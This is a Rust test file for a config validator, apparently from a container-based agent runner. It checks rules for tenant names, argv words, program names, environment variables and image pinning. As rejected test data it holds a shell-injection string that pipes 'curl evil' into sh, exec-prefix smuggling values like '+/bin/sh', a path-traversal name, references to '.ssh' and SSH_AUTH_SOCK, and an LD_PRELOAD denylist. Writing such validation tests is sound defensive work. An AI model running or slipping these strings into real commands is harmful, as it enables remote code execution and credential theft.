//! Value rules seen through `parse`: names, argv words and program names, env names, images.

use super::*;

// --- §4 "Unit-name characters" ---

#[test]
fn tenant_names_outside_the_safe_alphabet_are_rejected() {
    let long = "a".repeat(300);
    let long_message =
        format!("invalid tenant: name `{long}` is 300 characters long; the limit is 31");
    let cases: [(&str, &str); 10] = [
        (
            "t/1",
            "invalid tenant: name `t/1` contains `/`; only a-z, 0-9 and `-` are allowed",
        ),
        (
            "../../x",
            "invalid tenant: name `../../x` must start with a lowercase letter a-z",
        ),
        (
            ".",
            "invalid tenant: name `.` must start with a lowercase letter a-z",
        ),
        (
            "-x",
            "invalid tenant: name `-x` must start with a lowercase letter a-z",
        ),
        (
            "x.service",
            "invalid tenant: name `x.service` contains `.`; only a-z, 0-9 and `-` are allowed",
        ),
        (
            "a@b@c",
            "invalid tenant: name `a@b@c` contains `@`; only a-z, 0-9 and `-` are allowed",
        ),
        (
            "a b",
            "invalid tenant: name `a b` contains ` `; only a-z, 0-9 and `-` are allowed",
        ),
        (
            "é",
            "invalid tenant: name `é` must start with a lowercase letter a-z",
        ),
        (
            "%h",
            "invalid tenant: name `%h` must start with a lowercase letter a-z",
        ),
        (&long, &long_message),
    ];
    for (name, message) in cases {
        let text = with("tenant: acme", &format!("tenant: \"{name}\""));
        assert_eq!(one(&text), d(1, 9, "tenant", message), "{name}");
    }
}

// --- §4 "% specifiers", "$ expansion", "Command separator", "Quoting and escapes":
// argv words are data; the loader keeps them exactly, the renderer escapes them. ---

#[test]
fn argv_words_are_kept_verbatim_for_the_renderer_to_escape() {
    let text = with(
        "[agent, --run]",
        r#"[agent, "%h/.ssh", "50%", "$HOME", "${SSH_AUTH_SOCK}", ";", "a\"b", "'x'", "\\x41", "\\", "\\."]"#,
    );
    let s = ok(&text);
    assert_eq!(
        s.agent.command,
        vec![
            "agent",
            "%h/.ssh",
            "50%",
            "$HOME",
            "${SSH_AUTH_SOCK}",
            ";",
            "a\"b",
            "'x'",
            "\\x41",
            "\\",
            "\\."
        ]
    );
}

// --- §4 "Exec prefix smuggling" and "Shell injection" ---

#[test]
fn program_names_with_exec_prefixes_or_shell_strings_are_rejected() {
    for (first, message) in [
        (
            "\"+/bin/sh\"",
            "the program name `+/bin/sh` starts with `+`",
        ),
        (
            "\"!/bin/sh\"",
            "the program name `!/bin/sh` starts with `!`",
        ),
        ("-x", "the program name `-x` starts with `-`"),
        (
            "\"@/bin/sh\"",
            "the program name `@/bin/sh` starts with `@`",
        ),
        (
            "\"|/bin/sh\"",
            "the program name `|/bin/sh` starts with `|`",
        ),
        ("\";\"", "the program name `;` starts with `;`"),
        (
            "\"make && curl evil | sh\"",
            "the program name `make && curl evil | sh` contains whitespace",
        ),
        ("\"\"", "the program name (first word) is empty"),
    ] {
        let text = with("[make, test]", &format!("[{first}, x]"));
        assert_eq!(one(&text), d(12, 13, "gate.command[0]", message), "{first}");
    }
    let text = with("[make, test]", "\"make && curl evil | sh\"");
    assert_eq!(
        one(&text),
        d(
            12,
            12,
            "gate.command",
            "expected a list, found string \"make && curl evil | sh\""
        )
    );
    assert_eq!(
        one(&with("[make, test]", "[]")),
        d(12, 12, "gate.command", "`command` is empty")
    );
}

// --- §4 "Env vars" ---

#[test]
fn env_names_follow_the_alphabet_and_the_denylist() {
    let text = with(
        "  command: [agent, --run]",
        "  command: [agent]\n  env: [A-B, LD_PRELOAD, \"PATH=/x\", PATH, HOME, HTTPS_PROXY, no_proxy, CYCLIX_RUN, lower, GOOD_1, GOOD_1]",
    );
    let got: Vec<(usize, String, String)> = all(&text)
        .into_iter()
        .map(|(l, _, p, m)| (l, p, m))
        .collect();
    let want: Vec<(usize, String, String)> = [
        ("agent.env[0]", "`A-B` is not a valid variable name; use [A-Z_][A-Z0-9_]* (uppercase letters, digits, `_`)"),
        ("agent.env[1]", "`LD_PRELOAD` is not allowed: LD_* variables control the dynamic loader"),
        ("agent.env[2]", "`PATH=/x` is not a valid variable name; use [A-Z_][A-Z0-9_]* (uppercase letters, digits, `_`)"),
        ("agent.env[3]", "`PATH` is not allowed: the image defines it"),
        ("agent.env[4]", "`HOME` is not allowed: the image defines it"),
        ("agent.env[5]", "`HTTPS_PROXY` is not allowed: cyclix sets the proxy variables to the run's egress proxy"),
        ("agent.env[6]", "`no_proxy` is not allowed: cyclix sets the proxy variables to the run's egress proxy"),
        ("agent.env[7]", "`CYCLIX_RUN` is not allowed: CYCLIX_* variables are set by cyclix"),
        ("agent.env[8]", "`lower` is not a valid variable name; use [A-Z_][A-Z0-9_]* (uppercase letters, digits, `_`)"),
        ("agent.env[10]", "`GOOD_1` is listed twice (first at line 10)"),
    ]
    .iter()
    .map(|(p, m)| (10, (*p).to_owned(), (*m).to_owned()))
    .collect();
    assert_eq!(got, want);
}

// --- images, task, tier, services, collected diagnostics ---

#[test]
fn images_must_be_pinned_unless_loudly_local() {
    let digest_line = format!("  image: ghcr.io/acme/gate@sha256:{DIGEST}");
    for (image, flag, want) in [
        (
            "ghcr.io/acme/gate:latest",
            "",
            d(
                11,
                10,
                "gate.image",
                "image `ghcr.io/acme/gate:latest` is not pinned by digest",
            ),
        ),
        (
            "localhost/gate",
            "",
            d(
                11,
                10,
                "gate.image",
                "image `localhost/gate` is not pinned by digest",
            ),
        ),
        (
            "ghcr.io/acme/gate",
            "true",
            d(
                12,
                25,
                "gate.unpinned_local_image",
                "`unpinned_local_image: true` is only allowed for `localhost/` images, not `ghcr.io/acme/gate`",
            ),
        ),
        (
            "ghcr.io/acme/gate@sha256:abc",
            "",
            d(
                11,
                10,
                "gate.image",
                "image digest `sha256:abc` is not `sha256:` and 64 lowercase hex digits",
            ),
        ),
        (
            "ghcr.io/Acme/gate@sha256:x",
            "",
            d(
                11,
                10,
                "gate.image",
                "invalid image reference `ghcr.io/Acme/gate@sha256:x`: invalid path component `Acme`",
            ),
        ),
    ] {
        let line = if flag.is_empty() {
            format!("  image: {image}")
        } else {
            format!("  image: {image}\n  unpinned_local_image: {flag}")
        };
        assert_eq!(one(&with(&digest_line, &line)), want, "{image}");
    }
    let pinned_and_flagged = with(
        &digest_line,
        &format!("{digest_line}\n  unpinned_local_image: true"),
    );
    assert_eq!(
        one(&pinned_and_flagged),
        d(
            12,
            25,
            "gate.unpinned_local_image",
            "`unpinned_local_image: true` is set but the image is pinned by digest"
        )
    );
    let s = ok(&with(
        &digest_line,
        "  image: localhost/gate:dev\n  unpinned_local_image: true",
    ));
    assert_eq!(
        s.gate.image,
        Image::UnpinnedLocal {
            reference: "localhost/gate:dev".into()
        }
    );
}
